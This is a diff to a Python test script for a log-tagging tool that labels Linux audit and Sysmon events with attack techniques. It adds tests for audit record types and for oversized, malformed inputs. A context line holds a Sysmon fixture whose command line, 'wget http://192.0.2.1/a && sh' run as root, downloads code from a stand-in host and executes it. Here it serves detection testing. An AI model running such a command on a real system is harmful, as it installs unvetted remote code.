@@ -86,6 +86,10 @@ for records, technique in (
                                                if each["kind"] in ("condition", "direct")], True)
     check("the message", (said, status), ("", 0))
 
+for kind in ("SYSCALL", "USER_LOGIN"):
+    check("a node that is no record's", json.loads(tag(f"node=a b type={kind} msg=audit(1.000:1): uid=1\n".encode())[0]).keys(),
+          {"ID", kind, "attack"})
+
 # ---- Sysmon for Linux: the same as the event in the form of evtx_dump
 
 fields = {"Image": "/usr/bin/wget", "CommandLine": "wget http://192.0.2.1/a && sh", "User": "root"}
@@ -101,5 +105,16 @@ for log in (f"Nov 24 08:30:01 host sysmon: {xml}\n", f"{xml}\n", json.dumps({"ME
     out, said, status = tag(log.encode())
     check(log, json.loads(out.splitlines()[-1])["attack"], answer)
 check("a line of syslog that is no event", tag(b"Nov 24 08:30:00 host cron: hello\n")[0], b"Nov 24 08:30:00 host cron: hello\n")
+
+# ---- What took seconds for each megabyte when more was searched than the next byte that counts
+
+out, said, status = tag(b"<Event>\n" * 5_000_000, "--skip-malformed")
+check("events without an end", (out, said.splitlines()[-2:], status),
+      (b"", ["attack-events: further lines are counted, not shown",
+             "attack-events: 5000000 lines in all could not be read; dropped"], 0))
+for pair in (b'a="" ', b"a={} "):
+    head = b"type=USER_LOGIN msg=audit(1626611363.720:348501): pid=1 "
+    out, said, status = tag(head + pair * (15_000_000 // len(pair)) + b"\n", "--skip-malformed")
+    check(f"many values like {pair}", (said.count("\n"), status), (1, 0))
 
 finish("logs of other forms")
